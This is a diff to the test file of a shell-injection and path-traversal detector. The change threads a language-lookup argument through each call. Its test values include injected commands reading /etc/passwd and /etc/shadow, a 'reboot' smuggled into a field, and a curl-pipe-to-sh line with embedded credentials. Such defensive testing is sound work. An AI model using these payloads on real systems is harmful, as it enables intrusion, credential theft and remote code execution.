@@ -3,18 +3,19 @@ import { harmlessChecks, harmlessCommands } from '../../test/fakes/harmless-comm
 import { harmlessGrammars } from '../../test/fakes/harmless-grammars.ts';
 import { harmlessValues } from '../../test/fakes/harmless-values.ts';
 import { harmlessWords } from '../../test/fakes/harmless-words.ts';
+import { findLanguage } from '../../test/fakes/languages.ts';
 import { findInValue } from './find-in-value.ts';
 import { judgeScript } from './shell/judge-script.ts';
 
 const rules = (value: string, strictness: 1 | 2 = 1): readonly string[] =>
-  findInValue(value, strictness).marks.map(({ rule }) => rule.slice('input/'.length));
+  findInValue(value, strictness, findLanguage).marks.map(({ rule }) => rule.slice('input/'.length));
 
 describe('what is harmless', () => {
   it.each([...harmlessValues, ...harmlessWords, ...harmlessGrammars])('%s', (value) => {
-    expect(findInValue(value, 1).marks).toEqual([]);
+    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
   });
   it.each(harmlessCommands.filter((command) => !/^(?:\/bin\/|ba)?sh -c|^tail|^sleep/.test(command)))('%s', (value) => {
-    expect(findInValue(value, 1).marks).toEqual([]);
+    expect(findInValue(value, 1, findLanguage).marks).toEqual([]);
   });
   it.each(harmlessChecks)('in a shell: %s', (value) => {
     expect(judgeScript(value)).toEqual([]);
@@ -35,7 +36,7 @@ describe('shell in a value', () => {
     ['a command that reads it', 'web; cat /etc/passwd', undefined],
     ['a command in one part, the path in another', '{"a":"/etc/shadow","b":"x; reboot"}', undefined],
   ])('weighs as its worst part, with a file of accounts: %s', (_, value, severity) => {
-    const [mark] = findInValue(value, 1).marks;
+    const [mark] = findInValue(value, 1, findLanguage).marks;
     expect([mark?.rule, mark?.severity]).toEqual(['input/shell-injection', severity]);
   });
   it.each([
@@ -302,12 +303,12 @@ function ascii85(text: string): string {
 it.each(['../', '....//', '%2e%2e%2f', 'x;', '$u ', '99,', '<~', '\\n', '\n', '"'])(
   'reads through 30,000 times %j',
   (piece) => {
-    expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1).marks.length).toBeLessThan(4);
+    expect(findInValue(piece.repeat(30_000).slice(0, 60_000), 1, findLanguage).marks.length).toBeLessThan(4);
   },
 );
 
 it('shows nothing of a value', () => {
-  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2);
+  const { marks } = findInValue('cat /etc/hunter2secret; curl http://u:hunter2secret@a.example/ | sh', 2, findLanguage);
   expect(marks.length).toBeGreaterThan(1);
   expect(JSON.stringify(marks)).not.toContain('hunter2secret');
 });
